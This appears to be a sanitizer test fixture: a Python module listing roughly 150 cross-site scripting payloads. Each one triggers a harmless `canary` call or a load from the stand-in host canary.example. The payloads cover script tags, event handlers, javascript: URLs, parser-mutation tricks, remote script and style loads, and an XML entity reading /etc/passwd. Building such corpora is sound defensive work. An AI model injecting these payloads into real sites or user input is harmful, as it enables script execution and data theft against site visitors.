@@ -1,0 +1,152 @@
+"""Attacks by markup: what has made browsers run an author's code, load what the author chose, or lead away, when a page let it through.
+
+Each calls `canary`, or asks for something of CANARY_HOST. Those of LIVE do so in today's Chromium in a page that lets them through, which
+test_hostile.py shows; those of OTHER did so in browsers of the past, or would in other programs.
+"""
+
+import re
+
+CANARY_HOST = "canary.example"
+_ELSEWHERE = f"https://{CANARY_HOST}"
+
+LIVE = (
+    # Scripts, and what hides them
+    "<script>canary('script')</script>",
+    "<ScRiPt >canary('case')</sCrIpT >",
+    "<script/x>canary('slash')</script>",
+    "</title></textarea></style><script>canary('closers')</script>",
+    "--><script>canary('comment')</script><!--",
+    "<script>//<!--\ncanary('hidden')//--></script>",
+    f"<script src={_ELSEWHERE}/script.js></script>",
+    f"<script src=//{CANARY_HOST}/relative.js></script>",
+    f"<script type=module>import '{_ELSEWHERE}/module.js'</script>",
+    "<svg><script>canary('svg script')</script></svg>",
+    "<svg><script href=data:text/javascript,canary('svg-address') /></svg>",
+    "<table><script>canary('table')</script></table>",
+    "<<script>canary('twice')//<</script>",
+    # Handlers
+    "<img src=x: onerror=canary('image')>",
+    "<img src=x:\nonerror\n=\ncanary('lines')>",
+    "<IMG SRC=x: OnErRoR=&#99;anary('entity')>",
+    '<img """><img src=x: onerror="canary(\'broken quotes\')">',
+    "<img src='x:' title='>' onerror=canary('inside')>",
+    "<svg onload=canary('svg')>",
+    "<svg/onload=canary('svg-slash')//>",
+    "<svg><animate onbegin=canary('animate') attributeName=x dur=1s>",
+    "<svg><set onbegin=canary('set') attributename=x to=y>",
+    "<body onload=canary('body')>",
+    "<input autofocus onfocus=canary('focus')>",
+    "<select autofocus onfocus=canary('select')></select>",
+    "<p tabindex=1 autofocus onfocus=canary('anything')>x",
+    "<details open ontoggle=canary('details')><summary>More</summary>x</details>",
+    "<video><source onerror=canary('source') src=x:></video>",
+    "<audio src=x: onerror=canary('audio')></audio>",
+    "<video src=x: onerror=canary('video')></video>",
+    "<iframe onload=canary('frame')></iframe>",
+    "<object data=x: onerror=canary('object')></object>",
+    "<style onload=canary('style')></style>",
+    "<link rel=stylesheet href=data:text/css, onload=canary('link')>",
+    "<p onmouseover=canary('mouse')>x</p>",
+    "<b style=animation-name:x onanimationstart=canary('animation')>x</b><style>@keyframes x{}b{animation:x 1ms}</style>",
+    # Addresses
+    "<a href=javascript:canary('link')>x</a>",
+    "<a href=' \x01javascript:canary(`control`)'>x</a>",
+    "<a href='java\tscript:canary(`tab`)'>x</a>",
+    "<a href='java&NewLine;scr&Tab;ipt&colon;canary(`names`)'>x</a>",
+    "<a href='&#0000106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#99&#97&#110&#97&#114&#121(1)'>x</a>",
+    "<a href=JaVaScRiPt:canary('mixed')>x</a>",
+    "<svg><a href=javascript:canary('svg-link')><text y=9>x</text></a></svg>",
+    "<math><mtext><a href=javascript:canary('math-link')>x</a></mtext></math>",
+    "<map name=m><area shape=default href=javascript:canary('area')></map><img usemap=#m>",
+    "<form action=javascript:canary('form')><button>x</button></form>",
+    "<form><button formaction=javascript:canary('button')>x</button></form>",
+    "<form><input type=submit formaction=javascript:canary('submit')></form>",
+    "<iframe src=javascript:parent.canary('frame-address')></iframe>",
+    "<iframe srcdoc=\"<script>parent.canary('srcdoc')</script>\"></iframe>",
+    "<iframe srcdoc='&lt;img src=x: onerror=parent.canary(`escaped`)&gt;'></iframe>",
+    f"<iframe src={_ELSEWHERE}/frame></iframe>",
+    f"<object data={_ELSEWHERE}/object></object>",
+    f"<embed src={_ELSEWHERE}/embed>",
+    f"<meta http-equiv=refresh content='0; url={_ELSEWHERE}/refresh'>",
+    f"<base href={_ELSEWHERE}/><img src=base.png>",
+    f"<input type=image src={_ELSEWHERE}/input.png>",
+    # Parsers that disagree with one another
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=canary(`mutation`)&gt;'><img src=x: onerror=canary('math')>",
+    "<noscript><p title='</noscript><img src=x: onerror=canary(`noscript`)>'></noscript>",
+    "<svg></p><style><a id='</style><img src=x: onerror=canary(`foreign`)>'>",
+    "<xmp><p title='</xmp><img src=x: onerror=canary(`xmp`)>'>",
+    "<iframe><p title='</iframe><img src=x: onerror=canary(`iframe text`)>'>",
+    "<a title='<!--' href=x>--><img src=x: onerror=canary('comment in title')></a>",
+    "]]><script>canary('cdata')</script>",
+    "&lt;</p><img src=x: onerror=canary('after entities')>",
+    "\"><svg onload=canary('attribute')>",
+    "' onerror=canary('quote') x='><svg onload=canary('quote')>",
+    "</script><svg onload=canary('end-of-script')>",
+    "<p title='a&quot;&gt;&lt;svg onload=canary(1)&gt;'>x</p><svg onload=canary('beside')>",
+    # Style that reaches out
+    f"<style>@import '{_ELSEWHERE}/import.css';</style>",
+    f"<style>@import url({_ELSEWHERE}/import-address.css);</style>",
+    f"<style>*{{background:url({_ELSEWHERE}/background)}}</style>",
+    f"<style>@font-face{{font-family:f;src:url({_ELSEWHERE}/font)}}*{{font-family:f}}</style>x",
+    f"<p style='background:url({_ELSEWHERE}/style)'>x</p>",
+    f"<p style='background:u\\72l({_ELSEWHERE}/escaped-style)'>x</p>",
+    f"<ul style='list-style:url({_ELSEWHERE}/bullet)'><li>x</ul>",
+    f"<table background={_ELSEWHERE}/table-background><tr><td>x</table>",
+    f"<link rel=stylesheet href={_ELSEWHERE}/sheet.css>",
+    f"<link rel='preload' as=image href={_ELSEWHERE}/preload>",
+    f"<link rel=prefetch href={_ELSEWHERE}/prefetch>",
+    f"<svg><image href={_ELSEWHERE}/svg-image /></svg>",
+    f"<svg><rect fill='url({_ELSEWHERE}/paint#a)' width=9 height=9 /></svg>",
+    # Markdown
+    "![x](x:\"onerror=canary('picture'))<img src=x: onerror=canary('beside-picture')>",
+    "[x]: javascript:canary('reference')\n\n[x]\n\n<svg onload=canary('beside-reference')>",
+    "<javascript:canary('autolink')> <svg onload=canary('beside-autolink')>",
+    "```\"><svg/onload=canary('info')>\nx\n```\n\n<svg onload=canary('beside-info')>",
+    "`<svg onload=canary('code')>` <svg onload=canary('beside-code')>",
+    "<details open ontoggle=canary('block')>\n\n**x**\n\n</details>",
+)
+
+OTHER = (
+    "[x](<java\tscript:canary(1)>)",
+    "[x](javascript:canary('markdown'))",
+    "<marquee onstart=canary('marquee')>x</marquee>",
+    "<img/src=`x:`onerror=canary('backticks')>",
+    "<script>canary('unclosed')//",
+    "<img src=javascript:canary('picture')>",
+    "<img src=vbscript:canary('vb')>",
+    "<img dynsrc=javascript:canary('dynsrc') lowsrc=javascript:canary('lowsrc')>",
+    "<body background=javascript:canary('background')>",
+    "<link rel=stylesheet href=javascript:canary('sheet')>",
+    "<p style='width:expression(canary(`expression`))'>x</p>",
+    "<p style='behavior:url(#x);-moz-binding:url(//canary.example/x.xml#x)'>x</p>",
+    "<style>li{list-style-image:url(javascript:canary('bullet'))}</style>",
+    "<bgsound src=javascript:canary('sound')><layer src=x></layer>",
+    "<meta http-equiv=refresh content='0;url=javascript:canary(`refresh`)'>",
+    "<meta http-equiv=Link content='<//canary.example/x>; rel=stylesheet'>",
+    "<xml id=i><i><b>&lt;img src=x: onerror=canary(1)&gt;</b></i></xml><span datasrc=#i datafld=b dataformatas=html></span>",
+    "<!--[if gte IE 4]><script>canary('conditional')</script><![endif]-->",
+    "<?xml-stylesheet href='javascript:canary(1)'?><?php canary(1) ?>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+    "<a href='data:text/html,<script>parent.canary(1)</script>'>x</a>",
+    "<a href=vbscript:canary(1)>x</a><a href=file:///etc/passwd>x</a><a href=view-source:x>x</a>",
+    "<embed src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>parent.canary(1)</script></svg>'>",
+    "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22canary(1)%22/>'>",
+    "<picture><source srcset='https://harm.example/a.png 1x,data:image/svg+xml,x 2x'><img alt=x></picture>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><a href=%22javascript:canary(1)%22/></svg>#x' /></svg>",
+    "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
+    "\u2028<a href=\u2028javascript:canary(1)>x</a>",
+    "<\u0000script>canary(1)</scr\u0000ipt>",
+    "\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e",
+    "{{canary(1)}}${canary(1)}<%= canary(1) %>#{canary(1)}",
+    "<a href=https://harm.example/ ping=https://canary.example/ping target=_self rel=opener>x</a>",
+    "<x onclick=canary(1) contenteditable>x</x><dialog open onclose=canary(1)>x</dialog>",
+    "<a id=body name=forms href=x>x</a><form name=body><input name=children></form>",
+    "<template><script>canary(1)</script></template><slot name=x onslotchange=canary(1)></slot>",
+)
+
+ALL = (*LIVE, *OTHER)
+
+
+def as_path(attack: str) -> str:
+    """Give an attack as a part of an address or of a file's name: without the white space and the controls that neither can hold."""
+    return re.sub(r"[\s\x00-\x20]+", "/", attack)
